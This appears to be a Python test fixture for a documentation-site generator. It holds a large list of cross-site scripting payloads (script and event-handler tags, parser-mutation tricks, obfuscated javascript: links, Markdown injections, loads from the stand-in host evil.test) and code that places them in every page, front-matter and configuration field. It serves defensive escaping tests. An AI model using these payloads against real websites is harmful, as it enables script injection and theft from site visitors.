"""What somebody would try: payloads, and the places of the content that they are put in.

Each would call `evil()`, or ask for something at evil.test.
"""

import itertools
import re
from pathlib import Path

REPOSITORY = Path(__file__).resolve().parents[3]

PAYLOADS = [
    # Elements and attributes
    "<script>evil()</script>", "<ScRiPt>evil()</sCrIpT >", "<script\x0c>evil()</script>", "<script/x>evil()</script>",
    "<img src=x onerror=evil()>", "<img/src=x/onerror=evil()>", "<img src=x\x0conerror=evil()>", "<img src=x onerror\n=\nevil()>",
    "<svg onload=evil()>", "<svg><script>evil()</script></svg>", "<svg/onload=evil()//", "<body onload=evil()>",
    "<details open ontoggle=evil()><summary>x</summary></details>", "<div onmouseover=evil()>x</div>",
    "<input autofocus onfocus=evil()>", "<iframe srcdoc='<script>parent.evil()</script>'></iframe>",
    "<iframe src=javascript:parent.evil()></iframe>", "<object data=javascript:evil()></object>", "<embed src=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<form action=javascript:evil()><button>x</button></form>", "<button formaction=javascript:evil()>x</button>",
    "<a href=javascript:evil()>x</a>", "<video><source onerror=evil()></video>", "<audio src=//evil.test/x autoplay></audio>",
    "<img srcset='//evil.test/x 1x' src=x>", "<img src=//evil.test/x.png>", "<div style='background:url(//evil.test/x)'>x</div>",
    "<p style=animation-name:x onanimationstart=evil()>x</p>", "<style>@import '//evil.test/x.css';</style>",
    "<table background=//evil.test/x><tr><td>x</table>", "<x onclick=evil() tabindex=1 autofocus onfocus=evil()>x</x>",
    # What scanners and browsers read differently
    '<div ==title="><img src=x onerror=evil()>">x</div>', "<div ='><img src=x onerror=evil()>'>x</div>",
    '<div title="`"><img src=x onerror=evil()>">x</div>', "<div title=`<img src=x onerror=evil()>`>x</div>",
    '<a title="x"onmouseover=evil()>x</a>', "<i\x0bonclick=evil()>x</i>", "<i/title='/'onload=evil()>x</i>",
    '</p title="><img src=x onerror=evil()>">', "</ <img src=x onerror=evil()>", "<!--><img src=x onerror=evil()>-->",
    "<!---><img src=x onerror=evil()>-->", "<!-- --!><img src=x onerror=evil()>-->", "<!-- x --\n><img src=x onerror=evil()> -->",
    "<![CDATA[><img src=x onerror=evil()>]]>", "<?x ><img src=x onerror=evil()>?>", "<!x ><img src=x onerror=evil()>",
    "<div aria-x\"onclick=evil()=''>x</div>", "<div aria-><img src=x onerror=evil()></div>", "<<img src=x onerror=evil()>>",
    "<img src=x alt='\"><img src=x onerror=evil()>'>", '<img src="x" alt="&quot;&gt;&lt;img src=x onerror=evil()&gt;">',
    "<span class='\"><script>evil()</script>'>x</span>", "<b\u2028onclick=evil()>x</b>", "<\u017fcript>evil()</\u017fcript>",
    # Mutations
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=evil()>'>", "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "<svg></p><style><a id='</style><img src=x onerror=evil()>'>", "<template><script>evil()</script></template>", "<textarea></textarea><img src=x onerror=evil()>",
    "<title></title><img src=x onerror=evil()>", "<xmp></xmp><img src=x onerror=evil()>", "<table><td><img src=x onerror=evil()></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=evil()>", "<svg><foreignObject><img src=x onerror=evil()></foreignObject></svg>",
    "<math href=javascript:evil()>x</math>", "<svg><a xlink:href=javascript:evil()><text y=9>x</text></a></svg>", "<svg><animate onbegin=evil() attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg onload=evil()>#x'></svg>", "<plaintext><img src=x onerror=evil()>",
    # Entities
    "&lt;script&gt;evil()&lt;/script&gt;", "&#60;img src=x onerror=evil()&#62;", "&#x3c;img src=x onerror=evil()&#x3e;", "&amp;lt;img src=x onerror=evil()&amp;gt;",
    '"><img src=x onerror=evil()>', "'><img src=x onerror=evil()>", "--><img src=x onerror=evil()>", "]]><img src=x onerror=evil()>",
    "</script><script>evil()</script>", "</title><script>evil()</script>", "</textarea><script>evil()</script>", "\\<img src=x onerror=evil()\\>",
    "\" onmouseover=\"evil()", "' onmouseover='evil()", "` onmouseover=`evil()", "\u2028evil()", "${evil()}", "{{{evil}}}", "{{&evil}}", "{{/content}}", "%%evil%%",
    # Markdown
    "[x](javascript:evil())", "[x](<java\tscript:evil()>)", "[x](JaVaScRiPt:evil())", "[x](javascript&colon;evil())", "[x](javascript&#58;evil())",
    "[x](&#x6A;avascript:evil())", "[x](\x01javascript:evil())", "[x](java&#10;script:evil())", "[x](java&NewLine;script:evil())", "[x](data:text/html,<script>evil()</script>)",
    "[x](vbscript:evil())", "<javascript:evil()>", "![x](javascript:evil())", "![x](data:image/svg+xml,<svg/onload=evil()>)", "![x](//evil.test/x.png)",
    "![x](https://evil.test/x.png)", '[x](index.md "x\\"onmouseover=evil()")', "[x](index.md '\"onmouseover=evil()')", '![x"onerror="evil()](x)', "![<img src=x onerror=evil()>](x)",
    "[<img src=x onerror=evil()>](index.md)", "[x]{#x\"onclick=evil()}", "[x]{.x\"onclick=evil()}", "[x]{lang=\"onclick=evil()}", "[x](index.md){onclick=evil()}",
    "`<img src=x onerror=evil()>`", "<https://e.test/\"onclick=evil()>", "http://e.test/\"onclick=evil()", "[^<img src=x onerror=evil()>]", "*<img src=x onerror=evil()>*",
    "[x]: javascript:evil()\n\n[x]", "[x](\\\\evil.test)", "<a href='java\nscript:evil()'>x</a>", "<a href='&#1;javascript:evil()'>x</a>", "<a href='javascript&colon;evil()'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=\">x</a>", "<a href=' &#14; javascript:evil()'>x</a>", "<a href='jav&#x09;ascript:evil()'>x</a>",
    "<a href='jav&Tab;ascript&colon;evil&lpar;&rpar;'>x</a>", "<a href='&#0000106avascript:evil()'>x</a>", "<a href='feed:javascript:evil()'>x</a>", "<a href='view-source:javascript:evil()'>x</a>",
]  # fmt: skip


def line(payload):
    """The payload on one line."""
    return " ".join(payload.split("\n"))


def name(payload):
    """A name of its own, of letters and digits."""
    return payload.encode().hex()[:80] + str(len(payload))


def quoted(payload):
    """The payload as a string of YAML."""
    text = "".join(
        character if character.isprintable() else f"\\u{ord(character):04x}"
        for character in payload.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    )
    return f'"{text}"'


# Each takes a payload, and gives Markdown.
PLACES = {
    "block": lambda text: text,
    "paragraph": lambda text: f"x {text} y",
    "heading": lambda text: f"## {line(text)}",
    "heading id": lambda text: f"## x {{#{line(text).replace(' ', '/')}}}",
    "item": lambda text: f"- {line(text)}\n- [ ] {line(text)}",
    "quote": lambda text: f"> {line(text)}",
    "cell": lambda text: f"| {line(text)} |\n|---|\n| {line(text)} |",
    "link": lambda text: f"[{line(text)}](index.md)",
    "link title": lambda text: f"[x](index.md '{line(text)}')",
    "destination": lambda text: f"[x](<{line(text).replace('<', '').replace('>', '')}>)",
    "alternative": lambda text: f"![{line(text)}](cat.png)",
    "caption": lambda text: f'![x](cat.png "{line(text)}")',
    "missing image": lambda text: f"![{line(text)}](none.png)",
    "HTML alternative": lambda text: f"<img src=cat.png alt='{line(text)}'>",
    "HTML title": lambda text: f'<abbr title="{line(text)}">x</abbr>',
    "HTML address": lambda text: f'<a href="{line(text)}">x</a>',
    "code": lambda text: f"```{line(text).replace('`', '')}\n{text}\n```",
    "code title": lambda text: f'```swift title="{line(text)}" since="{line(text)}"\n{text}\n```',
    "indented code": lambda text: f"    {line(text)}",
    "span": lambda text: f"[{line(text)}]{{lang=en}}",
    "attributes": lambda text: f"[x]{{#{line(text)}}} [x]{{lang={line(text)}}}",
    "note": lambda text: f"::: note {line(text)}\n{text}\n:::",
    "video": lambda text: f"::: video {line(text)} captions={line(text)}\n:::",
    "tabs": lambda text: f":::: tabs {line(text)}\n::: tab {line(text)}\n{text}\n:::\n::: tab B\nx\n:::\n::::",
    "footnote": lambda text: f"x[^{name(text)}]\n\n[^{name(text)}]: {line(text)}",
    "definition": lambda text: f"[{name(text)}]: <{line(text).replace('<', '').replace('>', '')}> '{line(text)}'\n\n[{name(text)}]",
}

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def in_quote(text):
    return "".join(f"> {part}\n" for part in text.split("\n"))


def site_files():
    """A folder of pages: some places each, with all payloads, and front matter with some payloads each."""
    files = {"content/index.md": "# Home\n", "content/cat.png": PIXEL}
    places = list(PLACES.items())
    for number in range(0, len(places), 3):
        # Each in a quote of its own: what it leaves open ends there, and hides no other.
        blocks = "\n".join(in_quote(place(payload)) for _, place in places[number : number + 3] for payload in PAYLOADS)
        files[f"content/place-{number}.md"] = f"# {', '.join(name for name, _ in places[number : number + 3])}\n\n{blocks}\n"
    for number in range(0, len(PAYLOADS), 8):
        payloads = PAYLOADS[number : number + 8]
        text = quoted(" ".join(payloads))
        files[f"content/meta/{number}.md"] = (
            f"---\ntitle: {text}\ndescription: {text}\nnavigation-title: {text}\n"
            f"aliases: [{quoted(payloads[0])}]\n---\nText, and {line(payloads[0])}.\n"
        )
        files[f"content/titled/{number}.md"] = f"# {' '.join(map(line, payloads))}\n\nText.\n"
    return files


# Without control characters, which are refused there.
TEXTS = list(dict.fromkeys("".join(character for character in payload if character >= " ") for payload in PAYLOADS))


# A text of a field has at most a thousand characters: together these have all payloads.
def parts():
    found = [""]
    for text in TEXTS:
        if len(found[-1]) + len(text) > 900:
            found.append("")
        found[-1] += text + " "
    return found


def words():
    """The words of a theme, each with some payloads behind it."""
    text = (REPOSITORY / "templates/strings/en.yml").read_text(encoding="utf-8")
    lines = []
    for number, key in enumerate(re.findall(r"^([\w-]+): ", text, flags=re.MULTILINE)):
        found = [TEXTS[(number * 7 + step) % len(TEXTS)] for step in range(7)]
        # A slug names a folder.
        lines.append(f"{key}: {key if key.endswith('-slug') else quoted(' '.join(['a', *found, '{count}']))}")
    return "\n".join(lines) + "\n"


class Everything:
    """In a text that is formatted, each time the next part of the payloads."""

    def __init__(self):
        self.parts = itertools.cycle(map(quoted, parts()))

    def __format__(self, form):
        return next(self.parts)


def configured_files():
    """A site whose configuration, catalogues and theme hold the payloads, in a page of every kind."""
    everything = Everything()
    each = ", ".join(map(quoted, TEXTS))
    names = [f"p{number}" for number in range(len(TEXTS))]
    entries = "".join(
        f"  - id: {name}\n    names: {quoted(payload)}\n    expansion: {{text: {quoted(payload)}, language: en}}\n"
        f"    definitions: {quoted(payload)}\n"
        for name, payload in zip(names, TEXTS)
    )
    symbols = "".join(
        f"  - name: {name}\n    kind: method\n    owner: {everything}\n    since: {everything}\n    deprecated: {everything}\n"
        f"    legacy: [{each if name == 'one' else 'other'}]\n    names: {{{quoted(TEXTS[0])}: {everything}}}\n    notes: {everything}\n"
        f"    framework: {everything}\n    documentation: \"https://e.test/'onclick=evil()\"\n"
        for name in ["one", "two"]
    )
    criterion = "---\nlayout: criterion\nwcag: [1.1.1]\napis: [one]\n---\n# {}\n\n## Objective\n\nText `two()`.\n\n## Checklist\n\n- Check.\n"
    return {
        "content/site.yml": (
            f"title: {everything}\ndescription: {everything}\nlicence: {everything}\nlanguages: [en]\ncatalogues: []\n"
            "address: \"https://e.test/'onclick=evil()/\"\nrepository: \"https://e.test/'onclick=evil()\"\nedit: \"{repository}/'onclick=evil()/{path}\"\n"
            "contact: {email: '\"onclick=evil()>@e.test', form: \"https://e.test/'onclick=evil()//\"}\n"
            f"sections:\n  objective: {{en: [Objective, {each}]}}\n  checklist: {{en: [Checklist]}}\n"
            "navigation: [guide, wcag, apis, glossary, matrix]\nfooter: [page]\nrules: {history: off, html: warning, html-balance: warning}\n"
        ),
        "content/catalogue/glossary.yml": f"entries:\n{entries}",
        "content/catalogue/terms.yml": f"terms:\n  - term: {quoted(TEXTS[0])}\n    language: fr\n    forms: [{each}]\n",
        "content/catalogue/android.yml": f"platform: android\nplatform-name: {everything}\nsymbols:\n{symbols}",
        "content/catalogue/wcag.yml": (
            f"standard: wcag\nnames: {everything}\neditions:\n  - {{id: 2.2, status: in-force, note: {everything}}}\n"
            f"levels:\n  - {{id: A, names: {everything}}}\ndivisions:\n  - {{id: x, names: {everything}}}\n"
            f"parts:\n  - {{number: 1, slug: x, names: {everything}}}\n"
            f"  - {{number: 1.1, slug: y, names: {everything}}}\n"
            f"requirements:\n  - number: 1.1.1\n    slug: z\n    level: A\n    names: {everything}\n    summary: {everything}\n"
        ),
        "content/index.md": "# Home\n\nText.\n",
        "content/cat.png": PIXEL,
        "content/page.md": (
            "# Page\n\n"
            + "\n\n".join(re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text) for text in TEXTS)
            + "\n\nx[^a]\n\n[^a]: y\n\n- [ ] a\n- [x] b\n\n```swift {2}\nlet a = 1\nlet b = 1\n```\n\n![a](cat.png)\n\n| a |\n|---|\n| b |\n\n"
            "::: note\na\n:::\n\n:::: tabs\n::: tab A\na\n:::\n::: tab B\nb\n:::\n::::\n"
        ),
        "content/guide/index.md": "---\nlayout: guide\n---\n# Guide\n\nText.\n",
        "content/guide/a.md": criterion.format("A"),
        "content/guide/b.md": criterion.format("B"),
        "templates/strings/en.yml": words(),
    }
